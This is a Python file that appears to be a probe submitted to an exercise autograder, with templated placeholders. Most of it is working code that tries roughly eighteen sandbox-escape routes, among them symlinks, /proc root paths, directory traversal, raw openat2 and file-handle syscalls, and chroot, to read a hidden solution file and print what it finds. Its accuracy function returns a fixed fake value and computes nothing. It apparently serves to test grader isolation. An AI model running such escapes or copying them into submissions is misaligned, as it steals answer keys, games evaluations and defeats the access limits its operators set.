"""Reaches hidden files through links, /proc, open folders, handles and system calls that libraries hide.

Exercise: perceptron/accuracy
"""

import ctypes, os
import torch

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


PATH = "@SOLUTION@"
LIBC = ctypes.CDLL(None, use_errno=True)
SYSCALL = LIBC.syscall
OPENAT, OPENAT2, TO_HANDLE, BY_HANDLE = (257, 437, 303, 304) if os.uname().machine == "x86_64" else (56, 437, 264, 265)


def called(*arguments):
    result = SYSCALL(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), "no")
    return result


def read(descriptor):
    return os.read(descriptor, 500)


def by_handle():
    handle, mount = ctypes.create_string_buffer(b"\x80\0\0\0", 160), ctypes.c_int()
    called(TO_HANDLE, -100, PATH.encode(), handle, ctypes.byref(mount), 0)
    return read(called(BY_HANDLE, -100, handle, 0))


def linked(make, name):
    make(PATH, name)
    return open(name).read()


def climbed():
    folder = os.open(os.path.dirname(torch.__file__) + "/nn", os.O_RDONLY)
    return read(os.open("../" * 30 + PATH[1:], os.O_RDONLY, dir_fd=folder))


LIBRARY = os.path.dirname(os.__file__)
WAYS = {
    "symlink": lambda: linked(os.symlink, "@SCRATCH@/link.py"),
    "symlink here": lambda: linked(os.symlink, "link.py"),
    "hard link": lambda: linked(os.link, "/dev/shm/@MARK@"),
    "proc root": lambda: open("/proc/self/root" + PATH).read(),
    "proc cwd": lambda: open("/proc/self/cwd" + PATH).read(),
    "thread": lambda: open(f"/proc/thread-self/root{PATH}").read(),
    "parent": lambda: open(f"/proc/{os.getppid()}/root{PATH}").read(),
    "fd": lambda: open("/dev/fd/3/../../.." + PATH).read(),
    "null": lambda: open("/dev/null/../.." + PATH).read(),
    "dots": lambda: open(LIBRARY + "/json/" + "../" * 30 + PATH[1:]).read(),
    "O_PATH": lambda: open(f"/proc/self/fd/{os.open(PATH, os.O_PATH)}").read(),
    "openat": climbed,
    "openat2": lambda: read(called(OPENAT2, -100, PATH.encode(), ctypes.create_string_buffer(24), 24)),
    "syscall": lambda: read(called(OPENAT, -100, PATH.encode(), 0, 0)),
    "handle": by_handle,
    "chdir": lambda: (os.chdir(os.path.dirname(PATH)), open(os.path.basename(PATH)).read()),
    "chroot": lambda: os.chroot("@COURSE@"),
    "readlink": lambda: os.readlink("/proc/self/exe") + os.readlink("/proc/self/cwd"),
}
LOOT.append((tried(WAYS),))
# end


def accuracy(y_hat, y):
    # attack
    print(*LOOT, sep="\n")
    print(tried(WAYS))
    # end
    return 0.123


def predict_classes(y_hat):
    return y_hat
